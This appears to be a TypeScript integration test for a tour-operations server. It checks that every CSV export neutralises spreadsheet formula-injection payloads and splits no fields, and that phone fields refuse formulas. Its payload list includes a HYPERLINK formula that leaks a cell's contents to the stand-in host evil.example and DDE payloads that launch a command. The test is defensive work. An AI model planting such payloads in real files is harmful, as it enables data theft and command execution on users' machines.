// Every CSV export the server offers, downloaded for an organization whose every text field carries formula payloads: no cell opens as a live formula, no field is split.
import { parse } from 'csv-parse/sync';
import { REPORT_NAMES, REPORT_TABLES, restoreFormula } from '@tourops/contracts';
import { PHONE_NUMBER_RULE, defaultSettings } from '@tourops/domain';
import { api, signIn, startTestServer, type Session, type TestServer } from '../support/test-server';
import { loadOperations, type Operation } from './openapi-operations';

/** Text that a spreadsheet would run (OWASP CSV injection), and text that a reader could split (';', quotes). */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Open me")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1 after a tab',
  '\r=1+1 after a carriage return',
  '=1+1;"two";three',
  'Dinner; "chef\'s" table, at 8',
];
/** Emails that start like a formula and are still email addresses. */
const EMAILS = ['=cmd@example.com', '+1+cmd@example.com', '-2+3+cmd@example.com'];
const TAGS = ['=1+1', '+1+cmd', '-2+3', '@SUM(1)'];
const FORMULA_PHONE = "+1+cmd|' /C calc'!A0";

/** A cell a spreadsheet runs: it starts with = + - @ tab CR (a number the product computed, such as -5, is data). */
const isLive = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);
/** Semicolons outside quoted fields: where a semicolon-separated spreadsheet would split a cell. */
function semicolonsOutsideQuotes(text: string): number {
  let quoted = false;
  let count = 0;
  for (const char of text) {
    if (char === '"') quoted = !quoted;
    else if (char === ';' && !quoted) count++;
  }
  return count;
}

const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
const [from, start, end, to] = [day(0), day(30), day(31), day(60)];

let server: TestServer;
let session: Session;
let operations: Operation[];
let minPosition = 0n;

async function write(method: string, url: string, body?: unknown) {
  const response = await api(server, session, method, url, body);
  if (response.status >= 300) throw new Error(`seeding: ${method} ${url} answered ${response.status} ${JSON.stringify(response.body)}`);
  const position = (response.body as { position?: string } | null)?.position;
  if (position !== undefined && BigInt(position) > minPosition) minPosition = BigInt(position);
  return response.body;
}

beforeAll(async () => {
  server = await startTestServer();
  session = await signIn(server, 'proof-csv');
  operations = await loadOperations(server.baseUrl);
  for (const [index, payload] of PAYLOADS.entries()) {
    const tour = await write('POST', '/api/tours', { title: payload, description: payload, startDate: start, endDate: end, timezone: 'Europe/Rome' });
    const tourDay = await write('POST', `/api/tours/${tour.id}/days`, { date: start, title: payload });
    await write('POST', `/api/tours/${tour.id}/days/${tourDay.id}/segments`, { type: 'activity', title: payload, startTime: '09:00', notes: payload });
    const traveler = await write('POST', '/api/travelers', {
      firstName: payload,
      lastName: payload,
      email: EMAILS[index] ?? '',
      phone: '+39 055 123 4567',
      nationality: 'IT',
      dateOfBirth: `19${70 + index}-04-02`,
      passport: { number: payload.slice(0, 40), expiry: '2035-01-01' },
      dietaryNotes: payload,
      medicalNotes: payload,
      emergencyContact: { name: payload, phone: '(055) 123-4567', relation: payload },
      tags: TAGS,
      allowDuplicate: true,
    });
    await write('POST', `/api/travelers/${traveler.id}/tours/${tour.id}`);
    const staff = await write('POST', '/api/field-staff', { firstName: payload, lastName: payload, email: `guide${index}@example.com`, roles: ['guide'] });
    await write('POST', `/api/field-staff/${staff.id}/assignments`, { tourId: tour.id, role: 'guide', override: true });
  }
});
afterAll(async () => {
  await server?.close();
});

/** Every download an operation offers: one URL per variant (each report's each table; the audit log as CSV). */
function downloadsOf(operation: Operation): string[] {
  const wait = `minPosition=${minPosition}`;
  switch (operation.path) {
    case '/api/travelers/export.csv':
      return [`${operation.path}?${wait}`];
    case '/api/reports/{report}/csv':
      return REPORT_NAMES.flatMap((report) => REPORT_TABLES[report].map((table) => `/api/reports/${report}/csv?table=${table}&from=${from}&to=${to}&${wait}`));
    case '/api/audit-log/export':
      return [`${operation.path}?format=csv&from=${from}&to=${day(1)}&${wait}`];
    default:
      throw new Error(`${operation.name} offers CSV ("${operation.summary}"): add its downloads to this proof`);
  }
}

/** '/api/reports/staff-performance/csv staff': the path, and the table for a report. */
const exportName = (url: string) => [url.split('?')[0], new URL(url, 'http://x').searchParams.get('table')].filter(Boolean).join(' ');

describe('the CSV exports of an organization whose text fields carry formula payloads', () => {
  it('refuses a formula where a phone number belongs, naming the rule', async () => {
    const traveler = { firstName: 'Ana', lastName: 'Silva', nationality: 'PT', dateOfBirth: '1990-01-01' };
    const refusals = [
      await api(server, session, 'POST', '/api/travelers', { ...traveler, phone: FORMULA_PHONE }),
      await api(server, session, 'POST', '/api/travelers', { ...traveler, emergencyContact: { name: 'Rui', phone: FORMULA_PHONE, relation: 'Brother' } }),
      await api(server, session, 'POST', '/api/field-staff', { firstName: 'Rui', lastName: 'Costa', email: 'rui@example.com', phone: FORMULA_PHONE, roles: ['guide'] }),
    ];
    for (const refusal of refusals) {
      expect(refusal.status).toBe(400);
      expect(JSON.stringify(refusal.body)).toContain(PHONE_NUMBER_RULE);
    }
    expect((await api(server, session, 'PUT', '/api/settings/notifications', { ...defaultSettings().notifications, phone: FORMULA_PHONE })).status).toBe(400);
  });

  it('opens every cell of every download as data: payloads neutralised, numbers left numbers, nothing split', async () => {
    const csvOperations = operations.filter((operation) => operation.method === 'GET' && /csv/i.test(`${operation.path} ${operation.summary}`));
    expect(csvOperations.map((operation) => operation.name).sort()).toEqual(['GET /api/audit-log/export', 'GET /api/reports/{report}/csv', 'GET /api/travelers/export.csv']);
    const failures: string[] = [];
    const neutralised: Record<string, number> = {};
    const readBack = new Set<string>();
    let cells = 0;
    for (const url of csvOperations.flatMap(downloadsOf)) {
      const response = await fetch(`${server.baseUrl}${url}`, { headers: { authorization: `Bearer ${session.token}` } });
      const text = await response.text();
      if (response.status !== 200 || !response.headers.get('content-type')?.startsWith('text/csv')) {
        failures.push(`${url}: ${response.status} ${response.headers.get('content-type')} ${text.slice(0, 200)}`);
        continue;
      }
      // Strict RFC 4180 reading: a row with more or fewer cells than the header means a field was split.
      let rows: string[][];
      try {
        rows = parse(text, { bom: true });
      } catch (error) {
        failures.push(`${url}: not read as CSV: ${(error as Error).message}`);
        continue;
      }
      if (semicolonsOutsideQuotes(text) > 0) failures.push(`${url}: ${semicolonsOutsideQuotes(text)} semicolons outside quoted fields`);
      for (const [rowIndex, row] of rows.entries())
        for (const [column, cell] of row.entries()) {
          cells++;
          if (isLive(cell)) failures.push(`${url}: row ${rowIndex + 1}, column ${rows[0][column]}: live ${JSON.stringify(cell)}`);
          if (/^'[=+\-@\t\r]/.test(cell)) neutralised[exportName(url)] = (neutralised[exportName(url)] ?? 0) + 1;
          readBack.add(restoreFormula(cell));
        }
    }
    expect(failures).toEqual([]);
    // The payloads reached the exports: every one comes back whole from the cells, and each export that carries text neutralised some.
    expect(PAYLOADS.map((payload) => payload.trim()).filter((payload) => !readBack.has(payload))).toEqual([]);
    expect(Object.keys(neutralised).sort()).toEqual(
      expect.arrayContaining(['/api/audit-log/export', '/api/reports/staff-performance/csv staff', '/api/reports/traveler-insights/csv upcomingNeeds', '/api/travelers/export.csv']),
    );
    expect(cells).toBeGreaterThan(1000);
  });
});
